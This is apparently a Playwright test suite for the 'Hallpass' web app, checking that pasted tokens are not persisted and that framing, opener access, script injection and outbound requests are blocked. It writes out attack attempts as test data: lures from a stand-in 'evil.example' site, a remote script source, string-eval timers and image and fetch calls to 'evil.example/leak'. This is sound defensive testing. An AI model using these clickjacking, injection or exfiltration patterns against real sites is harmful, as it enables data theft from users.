import assert from 'node:assert/strict'
import { after, test } from 'node:test'
import type { Page } from 'playwright-core'
import { until } from '../until.js'
import { newProfile, startChromium } from './chromium.js'
import { signUpOperator, withOperators } from './operators.js'
import { RunningServer } from './running-server.js'
import { siteFlags, Sites } from './sites.js'

const sites = await Sites.start()
const evil = sites.origin('evil.example')
const server = await RunningServer.start(withOperators)
const browser = await startChromium(siteFlags)
after(async () => {
  await browser.close()
  await server.stop()
  await sites.stop()
})

let lure = ''
sites.serve('evil.example', (_, res) => {
  res.setHeader('content-type', 'text/html')
  res.end(`<!doctype html><title>lure</title><body>${lure}`)
})

const tools = ['/tools', '/tools/decoder', '/tools/json', '/tools/requests', '/tools/advisor', '/tools/comparison']
const pages = ['/sign-in', '/sign-up', '/account', '/console', '/console/subjects', ...tools]

const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url')
/** What somebody pasted: no credential of ours, and not to be found anywhere afterwards. */
const pasted = `${part({ alg: 'none', 'pasted-marker': 1 })}.${part({ sub: 'pasted-marker' })}.`
const marker = /pasted-marker|InBhc3RlZC1tYXJrZXIi|cGFzdGVkLW1hcmtlci/

interface Policies {
  readonly trustedTypes: { createPolicy(name: string, rules: object): void }
}

/** Everything that a page could keep here, and what others could read of it. */
async function kept(page: Page): Promise<string> {
  return page.evaluate(async () =>
    JSON.stringify([
      localStorage,
      sessionStorage,
      await indexedDB.databases(),
      await caches.keys(),
      (await navigator.serviceWorker.getRegistrations()).length,
      document.cookie,
      window.name,
    ]),
  )
}

test(
  'nothing that is pasted into a tool is kept anywhere, nor comes back with the page',
  { timeout: 120_000 },
  async (t) => {
    const { page } = await newProfile(t, browser)
    for (const path of ['/tools/decoder', '/tools/json', '/tools/requests']) {
      await page.goto(server.origin + path)
      const field = page.locator('textarea').first()
      await field.fill(path === '/tools/json' ? JSON.stringify({ token: pasted, marker: 'pasted-marker' }) : pasted)
      await page.waitForTimeout(300)
      assert.equal(await kept(page), '[{},{},[],[],0,"",""]', path)
      assert.doesNotMatch(page.url() + (await page.evaluate(() => JSON.stringify(history.state))), marker)
      await page.goto(`${server.origin}/tools`)
      await page.goBack()
      await page.locator('textarea').first().waitFor()
      assert.equal(await page.locator('textarea').first().inputValue(), '', `${path} after going back`)
      await page.locator('textarea').first().fill(pasted)
      await page.reload()
      await page.locator('textarea').first().waitFor()
      assert.equal(await page.locator('textarea').first().inputValue(), '', `${path} after reloading`)
    }
  },
)

test('a page of ours in a frame of another site shows nothing, signed in or not', { timeout: 120_000 }, async (t) => {
  const { page } = await newProfile(t, browser, { expected: /frame-ancestors|ERR_BLOCKED_BY_RESPONSE|404/ })
  await signUpOperator(page, server)
  for (const path of [...pages, '/console.html', '/tools/decoder.html', '/nothing-here']) {
    lure = `<iframe src="${server.origin}${path}"></iframe>`
    await page.goto(evil)
    const frame = page.frames()[1]
    await until(async () => !['', 'about:blank', undefined].includes(frame?.url()))
    assert.equal(frame?.url(), 'chrome-error://chromewebdata/', path)
  }
})

test(
  'another site that opens a page of ours has no hand on it, and hands it nothing',
  { timeout: 120_000 },
  async (t) => {
    const { page, context } = await newProfile(t, browser)
    lure = `<button onclick="opened = window.open('${server.origin}/tools/decoder#paste=${pasted}')">go</button>
    <a href="${server.origin}/tools/decoder#paste=${pasted}">link</a>`
    await page.goto(evil)
    const [opened] = await Promise.all([context.waitForEvent('page'), page.getByRole('button').click()])
    await opened.locator('textarea').first().waitFor()
    assert.equal(await opened.evaluate(() => window.opener), null)
    assert.equal(await page.evaluate('opened.closed'), true, 'its opener is cut off from it')
    assert.equal(await opened.locator('textarea').first().inputValue(), '')
    assert.equal(await opened.evaluate(() => location.hash), '')
    await page.getByRole('link').click()
    await page.locator('textarea').first().waitFor()
    assert.equal(await page.locator('textarea').first().inputValue(), '')
    assert.doesNotMatch(page.url(), /paste/)
  },
)

test(
  'in no page of ours does a string become script or markup, wherever it is put',
  { timeout: 120_000 },
  async (t) => {
    const { page } = await newProfile(t, browser, {
      expected: /Content Security Policy|Trusted|violat|blocked|refused|404/i,
    })
    await signUpOperator(page, server)
    for (const path of [...pages, '/console.html', '/index.html', '/tools/index.html', '/nothing-here']) {
      await page.goto(server.origin + path)
      const said = await page.evaluate(async () => {
        const attempts: { readonly [what: string]: () => unknown } = {
          innerHTML: () => (document.createElement('p').innerHTML = '<b>x</b>'),
          // oxlint-disable-next-line eslint/no-implied-eval -- that is the attack
          timer: () => setTimeout('document.title = "owned"' as unknown as () => void),
          src: () => (document.createElement('script').src = 'https://evil.example/x.js'),
          policy: () => (window as unknown as Policies).trustedTypes.createPolicy('evil', {}),
          worker: () => new Worker('data:,x'),
        }
        const passed = Object.keys(attempts).filter((name) => {
          try {
            attempts[name]!()
            return true
          } catch {
            return false
          }
        })
        const image = new Image()
        const loaded = await new Promise((resolve) => {
          image.addEventListener('load', () => resolve('loaded'))
          image.addEventListener('error', () => resolve('refused'))
          image.src = 'https://evil.example/leak.png'
        })
        const fetched = await fetch('https://evil.example/leak').then(
          () => 'fetched',
          () => 'refused',
        )
        return [passed, loaded, fetched]
      })
      assert.deepEqual(said, [[], 'refused', 'refused'], path)
      assert.match(await page.title(), /Hallpass/)
    }
  },
)
